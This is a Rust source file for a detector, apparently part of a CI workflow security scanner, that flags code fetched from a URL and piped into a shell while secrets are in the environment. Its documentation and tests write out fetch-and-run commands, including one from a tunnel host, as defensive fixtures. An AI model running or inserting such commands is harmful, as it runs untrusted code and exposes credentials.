//! Code from an address is run with secrets around it.
//!
//! `curl … | bash` runs whatever the host answers at that moment, with everything that the step's environment holds. It is
//! how many tools are installed, and a door: who takes over the host, or answers one run differently, has the secrets.
//!
//! ```yaml
//! - run: curl -sSf https://install.example/get.sh | bash
//!   env: { TOKEN: "${{ secrets.TOKEN }}" }
//! ```

use crate::destination;
use crate::flow::command::REMOTE_CODE;
use crate::flow::trace::ObservationKind;
use crate::signal::Signal;
use crate::technique::{Evidence, Sighting, Technique};

/// See the module's documentation.
pub(super) struct RemoteCode;

impl Technique for RemoteCode {
    fn id(&self) -> &'static str {
        "remote-code"
    }
    fn headline(&self) -> &'static str {
        "code from {places} runs with {secrets} in its environment"
    }
    fn remedy(&self) -> &'static str {
        "download a fixed version, compare its digest, and hand it no secret that it does not need"
    }
    fn source(&self) -> &'static str {
        include_str!("remote_code.rs")
    }

    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
        let groups = evidence.grouped(|delivery, _| delivery.client == REMOTE_CODE);
        let sighting = |group| Sighting {
            deliveries: group,
            signals: [Signal::RemoteCode].into(),
            ..Sighting::default()
        };
        let mut found: Vec<Sighting> = groups.into_iter().map(sighting).collect();
        // Without secrets around it, where nobody's name stands behind the address: a tunnel, a paste, a request bin.
        let nameless = evidence.trace.observations.iter().enumerate().find(|(_, observation)| {
            observation.kind == ObservationKind::RemoteCode
                && destination::of_address(&observation.detail).is_drop_box()
        });
        if let Some((at, _)) = nameless {
            let signals = [Signal::RemoteCode, Signal::DropBox].into();
            found.push(Sighting { observations: vec![at], signals, ..Sighting::default() });
        }
        found
    }
}

#[cfg(test)]
mod tests {
    use crate::report::Verdict;
    use crate::testing::{check, silent};

    #[test]
    fn an_installer_with_a_secret_around_it() {
        check(
            "remote-code",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sSf https://install.example/get.sh | bash\n        env: {T: '${{ secrets.T }}'}\n",
            Verdict::Exposed,
            &["T"],
            &["install.example"],
        );
    }

    #[test]
    fn code_from_a_tunnel() {
        check(
            "remote-code",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://x.trycloudflare.com/s | sh\n",
            Verdict::Suspicious,
            &[],
            &[],
        );
    }

    #[test]
    fn an_installer_without_secrets() {
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sSf https://install.example/get.sh | bash\n",
        );
    }
}
